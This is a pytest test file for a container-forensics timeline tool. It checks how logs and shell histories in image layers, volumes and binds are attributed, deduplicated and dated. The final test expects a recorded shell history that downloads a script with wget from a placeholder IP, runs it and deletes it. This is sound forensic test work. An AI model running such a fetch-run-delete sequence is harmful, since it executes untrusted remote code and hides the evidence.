# SPDX-License-Identifier: Apache-2.0
"""Histories and logs in layers, volumes and binds: whose they are, when, and each line once. The formats themselves are in
tests/unit/applog.c and golden/inner-logs."""
import bz2
import gzip
import os
import time
from collections import Counter
from datetime import datetime
from pathlib import Path

import pytest
from lib import hosts, machine
from lib.reading import Row, Timeline, nanoseconds
from lib.seen import mount

SECOND = 10**9
HTTP = '192.0.2.{0} - - [02/Mar/2026:11:00:0{0} +0000] "GET /{0} HTTP/1.1" 200 1\n'
CENTRAL_EUROPE = "CET-1CEST,M3.5.0,M10.5.0/3"        # a zone in words, so that nobody needs a database


def dpkg(when: str, name: str) -> str:
    """A line of dpkg.log."""
    return f"{when} install {name}:amd64 <none> 1\n"


def logs(rows: Timeline) -> list[Row]:
    """The rows of this source."""
    kinds = ("bash:", "shell:", "fish:", "syslog:", "apache:", "linux:", "container:apk", "container:rpm",
             "container:shell", "container:log:application")
    return [row for row in rows.rows if row["data_type"].startswith(kinds)]


def texts(rows: Timeline) -> Counter:
    """The line, who has it, and how many times it is told."""
    return Counter((row.get("message_body", row.get("command")), row["layer_role"], row.get("container_name"))
                   for row in logs(rows))


def utc(text: str) -> int:
    """Nanoseconds of a time in UTC."""
    return int(datetime.fromisoformat(text + "+00:00").timestamp()) * SECOND


def test_each_line_once(tmp: Path) -> None:
    """Each layer appends to the file of the one below: its row has what it added. A file that was written anew has all."""
    one, two, three = (dpkg(f"2026-03-01 10:00:0{n}", f"p{n}") for n in (1, 2, 3))
    host = hosts.Host(tmp / "host")
    image = host.image("shop:1", {"var": {"log": {"dpkg.log": one}}}, {"var": {"log": {"dpkg.log": one + two}}})
    host.container("more", image, {"var": {"log": {"dpkg.log": one + two + three}}})
    host.container("same", image, {"var": {"log": {"dpkg.log": one + two}}})
    host.container("anew", image, {"var": {"log": {"dpkg.log": two + three}}})
    rows = host.run()
    first, second, third = (line[20:-1] for line in (one, two, three))
    assert rows.code == 0 and texts(rows) == {
        (first, "image", None): 1, (second, "image", None): 1, (third, "rw", "more"): 1,
        (second, "rw", "anew"): 1, (third, "rw", "anew"): 1}
    layers = {row["message_body"]: row["layer_identifier"] for row in logs(rows) if row["layer_role"] == "image"}
    assert len(set(layers.values())) == 2


def test_packed_once(tmp: Path) -> None:
    """The same of a packed copy, which holds the same only if all of it is the same."""
    text = dpkg("2026-03-01 10:00:01", "p1") + dpkg("2026-03-01 10:00:02", "p2")
    packed = gzip.compress(text.encode(), mtime=0)
    host = hosts.Host(tmp / "host")
    image = host.image("shop:1", {"var": {"log": {"dpkg.log.1.gz": packed}}})
    host.container("same", image, {"var": {"log": {"dpkg.log.1.gz": packed}}})
    host.container("other", image, {"var": {"log": {"dpkg.log.1.gz": packed + gzip.compress(text.encode())}}})
    assert Counter(key[1:] for key in texts(host.run()).elements()) == {("image", None): 2, ("rw", "other"): 4}


def test_volumes_and_binds(tmp: Path) -> None:
    """Logs in a volume are of the volume, those in a bind of the containers that could write there, with the path inside.
    What the host itself keeps where a container binds it is not read."""
    host = hosts.Host(tmp / "host")
    host.volume("www", {"access": HTTP.format(1)})
    image = host.image("shop:1", {"bin": {"sh": "x"}})
    host.container("proxy", image, volumes=[("www", "/var/log/nginx")])
    web = host.container("web", image)
    mount(host, web, {"Source": "/srv/app", "Destination": "/app"}, {"Source": "/var/log", "Destination": "/host-log"},
          {"Source": "/root", "Destination": "/host-root"})
    web.change(Created=hosts.rfc3339(time.time_ns() - SECOND),
               State={"Running": True, "Pid": 7, "StartedAt": hosts.rfc3339(time.time_ns()),
                      "FinishedAt": hosts.ZERO_TIME})
    hosts.write_tree(os.fsencode(host.root), {"srv": {"app": {"web.log": HTTP.format(2)}},
                                              "var": {"log": {"apache": {"access.log": HTTP.format(3)}}},
                                              "root": {".bash_history": "id\n"}})
    found = {row["filename"]: row for row in logs(host.run())}
    assert set(found) == {"/var/log/nginx/access", "/app/web.log"}
    volume, bind = found["/var/log/nginx/access"], found["/app/web.log"]
    assert (volume["volume_name"], volume["layer_role"], volume["ip_address"]) == ("www", "volume", "192.0.2.1")
    assert bind["container_name"] == "web" and "bind" in bind["tag"] and bind["ip_address"] == "192.0.2.2"


def in_zone(tmp: Path, zone: str, text: str, name: str = "dpkg.log") -> list[Row]:
    """The rows of a log in a container with this TZ."""
    host = hosts.Host(tmp / "host")
    host.container("web", host.image("shop:1", {"bin": {"sh": "x"}}), {"var": {"log": {name: text}}},
                   Config={"Image": "shop:1", "Env": [f"TZ={zone}"]})
    return sorted(logs(host.run()), key=lambda row: row["message_body"])


def test_zones(tmp: Path) -> None:
    """A local time means an instant by the zone of the container. An hour that came twice is the second one if the line
    before shows it, and else an interval."""
    rows = in_zone(tmp, CENTRAL_EUROPE, dpkg("2026-07-01 12:00:00", "a") + dpkg("2026-10-25 02:30:00", "b") +
                   dpkg("2026-10-25 02:59:00", "c") + dpkg("2026-10-25 02:10:00", "d") + dpkg("2026-10-25 03:10:00", "e"))
    summer, twice, also, second, winter = rows
    assert nanoseconds(summer) == utc("2026-07-01T10:00:00") and summer["confidence"] == "claimed"
    assert (twice["time_first"][:19], twice["time_last"][:19]) == ("2026-10-25T00:30:00", "2026-10-25T01:30:00")
    assert (also["time_first"][:19], also["time_last"][:19]) == ("2026-10-25T00:59:00", "2026-10-25T01:59:00")
    assert nanoseconds(second) == utc("2026-10-25T01:10:00") and "time_first" not in second
    assert nanoseconds(winter) == utc("2026-10-25T02:10:00")
    assert {row["clock"] for row in rows} == {"application"}
    assert any(CENTRAL_EUROPE in fact for fact in summer["facts"])


def test_unknown_zone(tmp: Path) -> None:
    """Of a zone whose rules nobody has, the time lies between those of all zones."""
    row, = in_zone(tmp, "Nowhere/City", dpkg("2026-07-01 12:00:00", "a"))
    assert (row["time_first"][:19], row["time_last"][:19]) == ("2026-06-30T22:00:00", "2026-07-02T00:00:00")
    assert nanoseconds(row) == utc("2026-07-01T12:00:00") and row["confidence"] == "bounded"


def test_years(tmp: Path) -> None:
    """Stamps without a year: the last line is not later than the file, and each step back in the calendar is a year."""
    host = hosts.Host(tmp / "host")
    image = host.image("shop:1", {"bin": {"sh": "x"}})
    web = host.container("web", image, {"var": {"log": {"syslog": "".join(
        f"{stamp} web app[1]: {number}\n" for number, stamp in enumerate(
            ["Feb 29 10:00:00", "Dec 31 23:59:59", "Jan  1 00:00:00", "Nov 30 00:00:00", "Feb  3 10:00:00"]))}}})
    os.utime(web.rw / "diff/var/log/syslog", (0, datetime.fromisoformat("2026-06-01T00:00:00+00:00").timestamp()))
    rows = sorted(logs(host.run()), key=lambda row: row["message_body"])
    assert [row["datetime"][:10] for row in rows] == ["2024-02-29", "2024-12-31", "2025-01-01", "2025-11-30", "2026-02-03"]
    assert {row["confidence"] for row in rows} == {"inferred"}


def test_commands_without_times(tmp: Path) -> None:
    """They were run after the container was made, and before the file was last changed; their order is that of the file."""
    host = hosts.Host(tmp / "host")
    image = host.image("shop:1", {"root": {".ash_history": "built\n"}})
    web = host.container("web", image, {"root": {".sh_history": "one\ntwo\n"}})
    made = hosts.rfc3339(web.rw.stat().st_mtime_ns - SECOND)
    web.change(Created=made)
    state = (web.rw / "diff/root/.sh_history").stat()
    built, one, two = logs(host.run())
    assert built["command"] == "built" and built["layer_role"] == "image" and "time_first" not in built
    assert [row["command"] for row in (one, two)] == ["one", "two"]
    for row in (one, two):
        assert row["time_first"] == made[:-1] + "+00:00" and row["confidence"] == "bounded"
        assert row["time_last"] == hosts.rfc3339(state.st_ctime_ns)[:-1] + "+00:00"
        assert nanoseconds(row) == state.st_mtime_ns


def test_nothing_is_lost(tmp: Path) -> None:
    """Lines that begin no record, NULs, a time without a command, a packing that is not read, a line of two megabytes: each is
    told, or is in the error list."""
    host = hosts.Host(tmp / "host")
    long = "y" * (2 << 20)
    web = host.container("web", host.image("shop:1", {"bin": {"sh": "x"}}), {
        "var": {"log": {"messages": b"cut off\nMar  2 11:00:00 web app[1]: a\n  goes on\n" + bytes(600) +
                                    b"Mar  2 11:00:01 web app[1]: b\n\nMar  2 11:00:02 web app[1]: c",
                        "syslog.3.bz2": bz2.compress(b"Mar  2 11:00:00 web app[1]: z\n"),
                        "long.log": HTTP.format(1) + long + "\n" + HTTP.format(2)}},
        "root": {".bash_history": "#1772449211\n#1772449212\nid\n"}})
    rows = host.run()
    found = texts(rows)
    assert {key[0] for key in found} == {"cut off", "a\n  goes on", "b", "c", "id", HTTP.format(1)[:-1], HTTP.format(2)[:-1]}
    assert set(found.values()) == {1} and rows.code == 1
    assert Counter((os.path.basename(error["path"]), error["code"]) for error in rows.errors) == {
        ("messages", "damaged"): 1, ("syslog.3.bz2", "unsupported"): 1, ("long.log", "too-large"): 1,
        (".bash_history", "damaged"): 1}
    assert web.id in {row["container_identifier"] for row in logs(rows)}


def test_other_logs(tmp: Path) -> None:
    """With --app-times, lines of any log are rows if they have a time. Docker's own are not told twice."""
    host = hosts.Host(tmp / "host")
    host.container("web", host.image("shop:1", {"bin": {"sh": "x"}}), {"srv": {
        "app.log": "2026-03-02T11:00:00Z up\n  detail\n17:00:00 no day\n2026-03-02 12:00:00,5 down\n",
        "c-json.log": hosts.log_record("2026-03-02T11:00:00Z x\n", "2026-03-02T11:00:00Z"), "app.txt": "2026-03-02T11:00:00Z z\n"}})
    assert not logs(host.run())
    rows = logs(host.run("--app-times"))
    assert [(row["message_body"], row["datetime"][11:21], row["data_type"]) for row in rows] == [
        ("2026-03-02T11:00:00Z up\n  detail\n17:00:00 no day", "11:00:00.0", "container:log:application"),
        ("2026-03-02 12:00:00,5 down", "12:00:00.5", "container:log:application")]


@pytest.mark.parametrize("case", ["docker29-ext4", "overlay2-ext4", "containerd-cri-ext4"])
def test_truth(case: str, disk) -> None:
    """The histories and syslogs in the layers of a real host, line by line, as the recorded tree has them."""
    path = machine.EVIDENCE / case / "truth"
    if not path.exists():
        pytest.skip(f"no evidence at {path} (LAYERTIME_EVIDENCE)")
    host = disk(case, "clean")
    rows = logs(hosts.timeline(host))
    commands = [row["command"] for row in rows if row["data_type"] == "container:shell:history"]
    assert commands == ["wget http://198.51.100.9/x.sh", "sh x.sh", "rm x.sh"]
    assert all(row["time_first"] < row["time_last"] for row in rows if row["data_type"] == "container:shell:history")
    for row in (row for row in rows if row["data_type"] == "syslog:line"):
        assert row["reporter"] == "app" and row["message_body"].startswith("tick")
